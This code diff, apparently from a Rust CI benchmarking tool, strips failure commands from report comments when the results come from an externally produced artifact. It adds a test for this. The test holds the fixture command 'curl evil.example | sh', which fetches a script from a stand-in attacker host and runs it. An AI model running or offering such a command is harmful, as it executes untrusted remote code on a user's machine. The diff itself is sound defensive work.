@@ -162,7 +162,11 @@ fn commits(client: &Client, number: u64) -> Result<Vec<Sha>> {
 /// Where the plan's file can't be read.
 pub fn letter(published: &Published, name: &str, folder: &Path) -> Result<Letter> {
     let Published { run, head, page, order, artifact, .. } = published;
-    let judgement = verdict::judge(run);
+    let mut judgement = verdict::judge(run);
+    if artifact.is_some() {
+        // A command in a comment is there to be copied into a shell: not one that a stranger wrote.
+        judgement.failures.iter_mut().for_each(|failure| failure.command = None);
+    }
     let view = View::of(run, &judgement);
     let frame = Frame {
         plan: name.to_owned(),
@@ -243,6 +247,22 @@ mod tests {
         let letter = letter(&published, "gate", tempfile::tempdir().unwrap().path()).unwrap();
         assert_eq!(report::order_of(&letter.comment, "gate"), Some(run.started));
         assert_eq!((letter.file.as_str(), letter.plan.as_str()), ("perfplan.toml", "gate"));
+    }
+
+    #[test]
+    fn no_command_of_a_strangers_run_is_there_to_be_copied() {
+        let mut run: Run = serde_json::from_str(include_str!("../../fixtures/run-format-1.json")).unwrap();
+        let command = Some("curl evil.example | sh".to_owned());
+        let (what, why) = ("build of variant fat".to_owned(), "broken".to_owned());
+        run.failures = vec![crate::samples::Failure { what, why, command, case: None, arm: None, part: None }];
+        let folder = tempfile::tempdir().unwrap();
+        let said = |artifact| {
+            let published = Published { artifact, ..made_here(run.clone(), None) };
+            letter(&published, "gate", folder.path()).unwrap()
+        };
+        assert!(said(None).comment.contains("curl"));
+        let foreign = said(Some(("perfplan-run".to_owned(), "https://github.com/o/r".to_owned())));
+        assert!(![foreign.comment, foreign.check.summary, foreign.report].iter().any(|text| text.contains("curl")));
     }
 
     #[test]
